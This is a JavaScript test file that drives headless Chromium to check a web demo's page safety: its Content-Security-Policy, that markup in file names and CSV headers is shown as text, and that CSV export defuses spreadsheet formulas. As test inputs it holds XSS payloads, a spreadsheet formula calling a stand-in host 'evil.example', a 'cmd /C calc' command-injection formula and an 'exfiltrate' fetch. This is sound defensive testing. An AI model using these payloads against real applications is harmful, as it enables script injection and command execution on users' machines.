// Page safety of the demo (issue 9, part 5) in headless Chromium, as web-demo.test.mjs drives it:
// user content (a file named like markup, CSV headers holding markup and script) is shown as text
// and never run; the Content-Security-Policy (meta tag and served header) names no remote origin and
// the browser enforces it; no request leaves the page's origin. Skipped only without /usr/bin/chromium.
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';

import { splitCsv } from '../../web/js/lib/csv-lite.mjs';
import {
  chromiumOrSkip,
  input,
  launchChromium,
  settledState,
  startDemoServer,
  visibleAlerts,
  webDir,
  openedState,
} from './web-harness.mjs';

// Source expressions that keep a policy on this origin; anything else (a host, https:, *) is remote.
const LOCAL_SOURCES = new Set(["'self'", "'none'", "'unsafe-inline'", "'wasm-unsafe-eval'", 'data:', 'blob:']);

function remoteSources(policy) {
  const remote = [];
  for (const directive of policy
    .split(';')
    .map((d) => d.trim())
    .filter(Boolean)) {
    const [, ...sources] = directive.split(/\s+/);
    for (const s of sources) if (!LOCAL_SOURCES.has(s)) remote.push(`${directive.split(/\s+/)[0]} ${s}`);
  }
  return remote;
}

test('the CSP meta tag names no remote origin and forbids scripts from strings', () => {
  const html = readFileSync(join(webDir, 'index.html'), 'utf8');
  const meta = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]+)"/);
  assert.ok(meta, 'web/index.html has a Content-Security-Policy meta tag');
  assert.deepEqual(remoteSources(meta[1]), []);
  assert.match(meta[1], /default-src 'self'/);
  assert.doesNotMatch(meta[1], /'unsafe-eval'/, "'unsafe-eval' would let strings run as code");
  assert.match(meta[1], /script-src 'self' 'wasm-unsafe-eval'(;|$)/);
});

test('page safety in headless Chromium', { timeout: 300_000 }, async (t) => {
  const chromium = chromiumOrSkip(t);
  if (!chromium) return;
  const {
    server,
    origin,
    serve: { CONTENT_SECURITY_POLICY },
  } = await startDemoServer();
  const tmp = mkdtempSync(join(tmpdir(), 'wasmetrics-safety-'));
  const browser = await launchChromium(chromium);
  const page = await (await browser.newContext()).newPage();
  // Every request to another origin, and how it ended: Chromium reports a request the CSP blocks
  // too (failed with net::ERR_BLOCKED_BY_CSP); (Playwright says "csp"); only such a blocked one has not left the page.
  const foreign = new Map();
  const isForeign = (url) =>
    !url.startsWith(origin + '/') && !url.startsWith(`blob:${origin}/`) && !url.startsWith('data:');
  const dialogs = [];
  page.on('request', (r) => {
    if (isForeign(r.url())) foreign.set(r.url(), 'pending');
  });
  page.on('requestfailed', (r) => {
    if (isForeign(r.url())) foreign.set(r.url(), r.failure()?.errorText ?? 'failed');
  });
  page.on('requestfinished', (r) => {
    if (isForeign(r.url())) foreign.set(r.url(), 'finished');
  });
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    d.dismiss().catch(() => {});
  });
  const settled = settledState(page);

  try {
    await t.test('the served page carries the same local-only CSP as a header', async () => {
      const res = await fetch(origin + '/web/');
      const header = res.headers.get('content-security-policy');
      assert.equal(header, CONTENT_SECURITY_POLICY);
      assert.deepEqual(remoteSources(header), []);
      assert.match(header, /frame-ancestors 'none'/);
    });

    await page.goto(origin + '/web/');
    await openedState(page);
    // Canaries: what injected markup would do if it ran.
    await page.evaluate(() => {
      window.__pwned = [];
      document.addEventListener('securitypolicyviolation', (e) =>
        (window.__violations ??= []).push(`${e.violatedDirective} ${e.blockedURI}`),
      );
    });

    await t.test('a file named like markup and CSV headers holding markup are text, never run', async () => {
      const fileName = '<img src=x onerror=alert(1)>.csv';
      const headers = ['<b>score</b>', '<img src=y onerror="__pwned.push(2)">', '<script>__pwned.push(3)</script>'];
      const rows = Array.from({ length: 40 }, (_, i) => `${((i * 37) % 100) / 100},${i % 2},${(i * 13) % 7}`);
      const path = join(tmp, fileName);
      writeFileSync(path, headers.join(',') + '\n' + rows.join('\n') + '\n');
      await page.setInputFiles(input('predictions'), path);
      await settled();
      await page.waitForTimeout(500); // an onerror of a broken <img> fires asynchronously
      assert.deepEqual(dialogs, [], 'no alert() ran');
      assert.deepEqual(await page.evaluate(() => window.__pwned), [], 'no injected handler or script ran');
      // The name is shown verbatim as text, and no element was made from it or from the headers.
      assert.ok((await page.textContent('body')).includes(fileName), 'the file name is shown as text');
      assert.equal(await page.$$eval('img[src="x"], img[src="y"], b', (els) => els.length), 0);
      assert.equal(
        await page.$$eval('script', (els) => els.filter((s) => !s.src).length),
        0,
        'no inline <script> element',
      );
      const body = await page.textContent('body');
      for (const h of headers) assert.ok(body.includes(h), `header ${h} shown as text`);
    });

    await t.test("CSV export: hostile class names are quoted and prefixed with ' (OWASP CSV injection)", async () => {
      // Class names (prediction columns and label values) that a spreadsheet would run as formulas.
      const hostile = [
        '=HYPERLINK("http://evil.example/?x";"click")',
        ' =5+6',
        '@SUM(1+1)',
        "+1+cmd|' /C calc'!A0",
        '-2+3',
        '\t=1+1',
      ];
      const quote = (s) => `"${s.replace(/"/g, '""')}"`;
      const rows = Array.from({ length: 36 }, (_, i) => {
        const probs = hostile.map((_, k) => (k === i % hostile.length ? 0.5 : 0.1));
        return `${probs.join(',')},${quote(hostile[(i * 5) % hostile.length])}`;
      });
      const path = join(tmp, 'hostile-labels.csv');
      writeFileSync(path, hostile.map(quote).join(',') + ',label\n' + rows.join('\n') + '\n');
      await page.setInputFiles(input('predictions'), path);
      assert.equal(await settled(), 'ready', JSON.stringify(await visibleAlerts(page)));
      const [download] = await Promise.all([page.waitForEvent('download'), page.click('#export-csv')]);
      const text = readFileSync(await download.path(), 'utf8');
      const cells = splitCsv(text, ',').flat();
      // Every field is quoted: the text has exactly the fields' quotes (no bare field).
      for (const line of text.trimEnd().split('\n').slice(1))
        assert.match(line, /^"([^"]|"")*"(,"([^"]|"")*")*$/, `an unquoted field in ${line}`);
      const formula = /^(?:[\t\r\n]|[\s\u00a0]*[=+\-@])/;
      const risky = cells.filter((c) => formula.test(c) && !/^-?\d/.test(c));
      assert.deepEqual(risky, [], 'cells a spreadsheet would read as a formula');
      const names = cells.filter((c) => hostile.some((h) => c.includes(h.trim())));
      assert.ok(names.length >= hostile.length, `the class names are exported (${names.length} cells)`);
      for (const h of hostile)
        assert.ok(
          cells.some((c) => c.startsWith(`'`) && c.slice(1).trim() === h.trim()),
          `${JSON.stringify(h)} exported as '${h}`,
        );
    });

    await t.test(
      'the browser enforces the CSP: remote fetches, remote images and inline scripts are refused',
      async () => {
        const result = await page.evaluate(async () => {
          const out = {};
          try {
            await fetch('https://example.com/exfiltrate');
            out.fetch = 'sent';
          } catch (e) {
            out.fetch = e.name;
          }
          // An inline script made from a string (as injected markup would be) is refused. (eval is
          // not tested here: DevTools evaluation, which drives this, is exempt from the CSP.)
          window.__inline = 0;
          const script = document.createElement('script');
          script.textContent = 'window.__inline = 1';
          document.body.append(script);
          out.inline = window.__inline;
          script.remove();
          const img = document.createElement('img');
          img.src = 'https://example.com/pixel.png';
          document.body.append(img);
          await new Promise((r) => setTimeout(r, 300));
          img.remove();
          out.violations = window.__violations ?? [];
          return out;
        });
        assert.equal(result.fetch, 'TypeError', 'a cross-origin fetch is refused');
        assert.equal(result.inline, 0, 'an inline script is refused');
        assert.ok(
          result.violations.some((v) => v.startsWith('script-src')),
          JSON.stringify(result.violations),
        );
        assert.ok(
          result.violations.some((v) => v.startsWith('connect-src https://example.com')),
          JSON.stringify(result.violations),
        );
        assert.ok(
          result.violations.some((v) => v.startsWith('img-src https://example.com')),
          JSON.stringify(result.violations),
        );
      },
    );

    await t.test("no request left the page's origin", async () => {
      await page.waitForTimeout(200);
      for (const [url, outcome] of foreign) {
        assert.ok(url.startsWith('https://example.com/'), `a request to ${url} was made by the page itself`);
        assert.match(outcome, /ERR_BLOCKED_BY_CSP|^csp$/, `${url} was not blocked by the CSP (${outcome})`);
      }
    });
  } finally {
    await browser.close();
    server.close();
    rmSync(tmp, { recursive: true, force: true });
  }
});
